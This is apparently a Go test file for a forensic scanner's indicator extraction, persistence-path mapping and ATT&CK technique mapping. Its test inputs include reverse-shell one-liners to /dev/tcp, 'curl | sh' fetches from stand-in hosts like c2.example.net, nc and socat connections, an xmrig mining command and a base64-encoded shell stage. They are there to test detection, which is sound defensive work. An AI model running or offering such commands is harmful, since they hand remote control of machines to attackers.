package audit_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

func TestExtractIndicators(t *testing.T) {
	wallet := "4" + "8" + strings.Repeat("A1b2C3d4E5", 9) + "xyz"
	b64 := base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/198.51.100.23/9001 0>&1"))
	tests := []struct {
		name string
		text string
		want []string // kind:value, each must be there
		not  []string // must not be there
	}{
		{"dev tcp", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1", []string{"ip:203.0.113.45", "port:4444"}, nil},
		{"url", "curl -fsSL http://c2.example.net:8080/x.sh | sh", []string{"url:http://c2.example.net:8080/x.sh", "domain:c2.example.net", "port:8080"}, nil},
		{"host port", "nc evil.example.org 443 ; socat - TCP:files.example.com:9000", []string{"domain:evil.example.org", "domain:files.example.com", "port:9000"}, nil},
		{"pool", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u " + wallet, []string{"pool:pool.supportxmr.com:3333", "domain:pool.supportxmr.com", "wallet:" + wallet}, nil},
		{"known pool host", `{"url": "gulf.moneroocean.stream:10128"}`, []string{"pool:gulf.moneroocean.stream:10128"}, nil},
		{"onion", "proxy to abcdefghijklmnop.onion", []string{"onion:abcdefghijklmnop.onion"}, nil},
		{"base64 stage", "echo " + b64 + " | base64 -d | sh", []string{"ip:198.51.100.23", "port:9001"}, nil},
		{"not versions or files", "version 1.2.3.4.5 of libfoo.so.6, see setup.py and config.json, 10.0.0.300",
			nil, []string{"ip:1.2.3.4", "domain:setup.py", "domain:config.json", "domain:libfoo.so.6", "ip:10.0.0.300"}},
		{"fields in code", "print(user.name, PKIX1.Name)", nil, []string{"domain:user.name", "domain:pkix1.name"}},
		{"object identifiers in a TLS library", "\x7fELF\x00\x002.5.4.3\x00\x001.3.6.1.5.5.7.3.1\x00\x002.5.29.17\x00\x00connect 192.0.2.77\x00",
			[]string{"ip:192.0.2.77"}, []string{"ip:2.5.4.3", "ip:2.5.29.17"}},
		{"an address shaped like an identifier, no identifiers", "\x7fELF\x00\x00\x01connect 2.5.4.3\x00\x00\x00/bin/sh\x00", []string{"ip:2.5.4.3"}, nil},
		{"binary strings", "\x7fELF\x00\x00\x01connect 192.0.2.77\x00\x00\x00/bin/sh\x00", []string{"ip:192.0.2.77"}, nil},
	}
	for _, tt := range tests {
		got := map[string]bool{}
		for _, i := range audit.ExtractIndicators([]byte(tt.text)) {
			got[i.String()] = true
		}
		for _, w := range tt.want {
			if !got[w] {
				t.Errorf("%s: no %s in %v", tt.name, w, got)
			}
		}
		for _, n := range tt.not {
			if got[n] {
				t.Errorf("%s: %s found", tt.name, n)
			}
		}
	}
}

func TestPlaceOf(t *testing.T) {
	for p, want := range map[string]string{
		"/etc/crontab": "cron", "/etc/cron.d/x": "cron", "/var/spool/cron/crontabs/root": "cron", "/var/spool/cron/root": "cron",
		"/etc/systemd/system/x.service": "systemd", "/lib/systemd/system/y.timer": "systemd", "/etc/rc.local": "rc",
		"/etc/init.d/x": "rc", "/etc/rc2.d/S01x": "rc", "/etc/profile.d/x.sh": "shell-rc", "/root/.bashrc": "shell-rc",
		"/home/u/.profile": "shell-rc", "/etc/ld.so.preload": "ld.so.preload", "/root/.ssh/authorized_keys": "ssh",
		"/etc/pam.d/sshd": "pam", "/lib/x86_64-linux-gnu/security/pam_x.so": "pam", "/etc/udev/rules.d/99-x.rules": "udev",
		"/etc/update-motd.d/10-x": "motd", "/etc/apt/apt.conf.d/99x": "package-hook", "/var/lib/dpkg/info/x.postinst": "package-hook",
		"/tmp/build/pkg/DEBIAN/postinst": "package-hook", "/tmp/build/pkg/DEBIAN/control": "", "/opt/DEBIAN/postinst.bak": "",
		"/var/www/html/x.php": "web-root", "/etc/xdg/autostart/x.desktop": "autostart",
		"/usr/local/bin/x": "", "/etc/passwd": "", "/var/lib/dpkg/info/x.list": "", "/usr/share/doc/cron/README": "",
		// Relative, uncleaned and look-alike paths.
		"etc/cron.d/x": "cron", "//etc//init.d/../init.d/x": "rc", "/etc/pam.d": "pam", "/etc/pam.dx/y": "",
		"/etc/cron.dx": "", "/var/wwwx/y.php": "", "var/www": "web-root",
	} {
		pl, ok := audit.PlaceOf(p)
		if got := map[bool]string{true: pl.Name}[ok]; got != want {
			t.Errorf("PlaceOf(%s) = %q, want %q", p, got, want)
		}
		if ok && len(pl.Techniques) == 0 {
			t.Errorf("PlaceOf(%s): no technique", p)
		}
	}
	// PlaceOf is asked about every path of an image: a clean absolute one costs no allocation.
	for _, p := range []string{"/data/d0001/f0001234", "/etc/cron.d/x", "/var/www/html/x.php"} {
		if n := testing.AllocsPerRun(100, func() { audit.PlaceOf(p) }); n != 0 {
			t.Errorf("PlaceOf(%s) allocates %v times, want 0", p, n)
		}
	}
}

// Every built-in rule an analyzer or YARA rule raises stands for techniques, or says why not.
func TestRuleTechniques(t *testing.T) {
	rules := builtinRules(t)
	var ids []string
	for _, r := range rules.Rules() {
		ids = append(ids, r.Meta.ID)
	}
	ids = append(ids, "STRATA-SE-001", "STRATA-SE-002", "STRATA-SE-010", "STRATA-SE-011", "STRATA-SE-020", "STRATA-CF-001",
		"STRATA-CF-002", "STRATA-CF-003", "STRATA-CF-004", "STRATA-CF-005", "STRATA-CF-008", "STRATA-FS-001", "STRATA-FS-002",
		"STRATA-FS-003", "STRATA-FS-004", "STRATA-FS-005", "STRATA-FS-006", "STRATA-FS-007", "STRATA-FS-008", "STRATA-FS-009",
		"STRATA-TP-001", "STRATA-TP-010", "STRATA-TR-001", "STRATA-PKG-001", "STRATA-PKG-010", "STRATA-RS-001", "STRATA-RS-013",
		"STRATA-EX-001", "STRATA-EX-002", "STRATA-LP-005", "STRATA-LP-006", "STRATA-LP-012", "STRATA-RS-021",
		"STRATA-WS-101", "STRATA-WS-102", "STRATA-WS-103", "STRATA-WS-104", "STRATA-WS-105", "STRATA-WS-106")
	for _, id := range ids {
		cats := []audit.Category{audit.CategoryMisconfig}
		for _, r := range rules.Rules() {
			if r.Meta.ID == id {
				c, _ := audit.ParseCategory(r.Meta.Category)
				cats = []audit.Category{c}
			}
		}
		if ts := audit.TechniquesFor(id, "", cats...); len(ts) == 0 {
			t.Errorf("%s: no technique", id)
		}
	}
	for id, why := range audit.NoTechnique {
		if ts := audit.TechniquesFor(id, ""); len(ts) != 0 && !strings.HasSuffix(id, "*") {
			t.Errorf("%s stands for no technique, yet gets %v", id, ts)
		}
		if why == "" {
			t.Errorf("%s: no reason for standing for no technique", id)
		}
	}
	// A reverse shell in a crontab is persistence too, with cron's technique.
	got := audit.TechniquesFor("STRATA-RS-002", "/etc/cron.d/x", audit.CategoryReverseShell)
	for _, w := range []string{"T1059.004", "T1095", "T1053.003"} {
		if !slices.Contains(got, w) {
			t.Errorf("RS-002 in cron: %v lacks %s", got, w)
		}
	}
}

// Indicators are read from a view of the bytes scanned, not a copy: what ExtractIndicators
// returns must not change when the bytes do (the scan's buffers are reused for the next file).
func TestIndicatorsOutliveTheirBytes(t *testing.T) {
	for _, data := range []string{
		"curl -s http://evil.example.com:8080/x | sh; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"\x7fELF\x00\x00\x00\x00connect\x00http://evil.example.com:8080/x\x00/dev/tcp/203.0.113.9/4444\x00\x00",
	} {
		buf := []byte(data)
		inds := audit.ExtractIndicators(buf)
		want := fmt.Sprint(inds)
		if !strings.Contains(want, "evil.example.com") || !strings.Contains(want, "203.0.113.9") {
			t.Fatalf("%q: indicators %s", data, want)
		}
		for i := range buf {
			buf[i] = 'x'
		}
		// The pool's buffer for printable runs is reused too.
		audit.ExtractIndicators([]byte("\x00" + strings.Repeat("z", len(data)*2)))
		if got := fmt.Sprint(inds); got != want {
			t.Errorf("%q: indicators changed with their bytes: %s, were %s", data, got, want)
		}
	}
}
